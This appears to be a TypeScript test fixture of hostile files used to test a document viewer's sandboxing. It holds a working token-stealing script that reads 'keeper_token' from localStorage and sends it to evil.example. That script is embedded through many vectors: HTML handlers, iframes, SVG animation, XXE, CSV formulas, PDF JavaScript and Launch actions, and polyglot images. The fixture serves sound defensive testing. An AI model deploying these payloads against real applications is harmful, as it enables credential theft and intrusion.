export interface HostileDocument {
  name: string
  type: string
  bytes: Buffer
}

const evilOrigin = 'https://evil.example'
const stealScript = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.reportToGate}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${evilOrigin}/?f='+t)}catch{}try{new Image().src='${evilOrigin}/?i='+t}catch{}try{navigator.sendBeacon('${evilOrigin}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
const quotedScript = stealScript.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const cdata = `<![CDATA[${stealScript}]]>`
const remoteContent = `<img src="${evilOrigin}/i.png"><link rel=stylesheet href="${evilOrigin}/s.css"><link rel=prefetch href="${evilOrigin}/p"><style>@import "${evilOrigin}/a.css";*{background:url(${evilOrigin}/u.png)}</style><video src="${evilOrigin}/v" autoplay></video><iframe src="${evilOrigin}/f"></iframe><object data="${evilOrigin}/o"></object><embed src="${evilOrigin}/e">`
const createSvg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" ${attributes}>${inner}</svg>`
const createHtml = (inner: string) =>
  `<!doctype html><html><head><title>Harmless</title></head><body><p>harmless words</p>${inner}</body></html>`

const createPdf = (catalog: string, page = '') =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
const pdfScript = `app.launchURL\\("${evilOrigin}/js"\\);this.submitForm\\("${evilOrigin}/form"\\);`
const createPdfLink = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<${action}>>>>]`

function createPng(text: string): Buffer {
  const onePixelPng = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  )
  const body = Buffer.concat([Buffer.from('tEXt'), Buffer.from(`Comment\0${text}`)])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(body.length - 4)
  // The chunk's checksum is wrong, which readers ignore.
  return Buffer.concat([onePixelPng.subarray(0, 33), length, body, Buffer.alloc(4), onePixelPng.subarray(33)])
}

const textDocuments: [name: string, type: string, text: string][] = [
  ['script.html', 'text/html', createHtml(`<script>${stealScript}</script>`)],
  [
    'handlers.html',
    'text/html',
    createHtml(
      `<img src=x onerror="${quotedScript}"><body onload="${quotedScript}"><svg onload="${quotedScript}"></svg>`,
    ),
  ],
  ['remote.html', 'text/html', createHtml(remoteContent)],
  [
    'frames.html',
    'text/html',
    createHtml(
      `<iframe srcdoc="<script>${quotedScript}</script>"></iframe><iframe src="javascript:${quotedScript}"></iframe>`,
    ),
  ],
  [
    'refresh.html',
    'text/html',
    createHtml(
      `<meta http-equiv=refresh content="0;url=${evilOrigin}/?r"><base href="${evilOrigin}/"><a href=/x autofocus>x</a>`,
    ),
  ],
  [
    'form.html',
    'text/html',
    createHtml(
      `<form id=f action="${evilOrigin}/form"><input name=t value=1><button autofocus>Sign in again</button></form><script>f.submit()</script>`,
    ),
  ],
  [
    'worker.html',
    'text/html',
    createHtml(
      `<script>new Worker(URL.createObjectURL(new Blob([${JSON.stringify(stealScript)}])));navigator.serviceWorker.register('/sw.js')</script>`,
    ),
  ],
  [
    'policy.html',
    'text/html',
    createHtml(
      `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${stealScript}</script>`,
    ),
  ],
  [
    'module.html',
    'text/html',
    createHtml(
      `<script type=module>${stealScript}</script><script type=importmap>{"imports":{"a":"${evilOrigin}/m.js"}}</script>`,
    ),
  ],
  [
    'page.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${cdata}</script></body></html>`,
  ],
  ['script.svg', 'image/svg+xml', createSvg(`<script>${cdata}</script>`)],
  ['onload.svg', 'image/svg+xml', createSvg('<rect width="9" height="9"/>', `onload="${quotedScript}"`)],
  [
    'remote.svg',
    'image/svg+xml',
    createSvg(
      `<image href="${evilOrigin}/i.png" width="9" height="9"/><use href="${evilOrigin}/u.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evilOrigin}/f"/></foreignObject>`,
    ),
  ],
  [
    'animate.svg',
    'image/svg+xml',
    createSvg(
      `<a><animate attributeName="href" values="javascript:${quotedScript}"/><text y="20">press</text></a><set attributeName="onmouseover" to="${quotedScript}"/>`,
    ),
  ],
  ['drawing.xml', 'text/xml', createSvg(`<script>${cdata}</script>`)],
  [
    'sheet.xml',
    'application/xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evilOrigin}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${evilOrigin}/entity">]><a>&e;<script xmlns="http://www.w3.org/1999/xhtml">${cdata}</script></a>`,
  ],
  [
    'notes.md',
    'text/markdown',
    `harmless words\n\n![x](${evilOrigin}/m.png)\n\n[press](javascript:${stealScript})\n\n<script>${stealScript}</script>\n\n${remoteContent}`,
  ],
  [
    'table.csv',
    'text/csv',
    `a,b\n=HYPERLINK("${evilOrigin}/csv"),<img src=x onerror="${stealScript.replaceAll('"', '""')}">\n=WEBSERVICE("${evilOrigin}/w"),@SUM(1)\n`,
  ],
  [
    'letter.rtf',
    'application/rtf',
    `{\\rtf1 harmless {\\field{\\*\\fldinst INCLUDEPICTURE "${evilOrigin}/rtf.png"}}{\\object\\objautlink\\objupdate{\\*\\objdata 01}}<script>${stealScript}</script>}`,
  ],
  [
    'data.json',
    'application/json',
    JSON.stringify({
      ['__proto__']: `<script>${stealScript}</script>`,
      html: `</script><script>${stealScript}</script>`,
    }),
  ],
  ['words.txt', 'text/plain', createHtml(`<script>${stealScript}</script>`)],
  ['program.js', 'text/javascript', stealScript],
  ['sheet.css', 'text/css', `@import "${evilOrigin}/css";*{background:url(${evilOrigin}/c.png)}`],
  [
    'javascript.pdf',
    'application/pdf',
    createPdf(
      `/OpenAction<</S/JavaScript/JS(${pdfScript})>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${pdfScript})>>]>>>>`,
    ),
  ],
  [
    'links.pdf',
    'application/pdf',
    createPdf('/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>', createPdfLink(`/S/URI/URI(${evilOrigin}/uri)`)),
  ],
  [
    'launch.pdf',
    'application/pdf',
    createPdf(`/OpenAction<</S/Launch/F(${evilOrigin}/launch)>>`, createPdfLink('/S/Launch/F(cmd.exe)')),
  ],
  [
    'submit.pdf',
    'application/pdf',
    createPdf('/AcroForm<</Fields[]>>', createPdfLink(`/S/SubmitForm/F(${evilOrigin}/submit)`)),
  ],
  ['page-in.pdf', 'application/pdf', `%PDF-1.4\n${createHtml(`<script>${stealScript}</script>`)}`],
]

export const hostileDocuments: readonly HostileDocument[] = [
  ...textDocuments.map(([name, type, text]) => ({ name, type, bytes: Buffer.from(text) })),
  { name: 'metadata.png', type: 'image/png', bytes: createPng(createHtml(`<script>${stealScript}</script>`)) },
  { name: 'picture.png', type: 'text/html', bytes: createPng(createHtml(`<script>${stealScript}</script>`)) },
  {
    name: 'gif-and-script.gif',
    type: 'image/gif',
    bytes: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${stealScript}//;`),
  },
  {
    name: 'utf-7.html',
    type: 'text/html',
    bytes: Buffer.from(`<meta charset=utf-7>+ADw-script+AD4-${stealScript}+ADw-/script+AD4-`),
  },
  {
    name: 'utf-16.html',
    type: 'text/html',
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<script>${stealScript}</script>`, 'utf16le')]),
  },
]
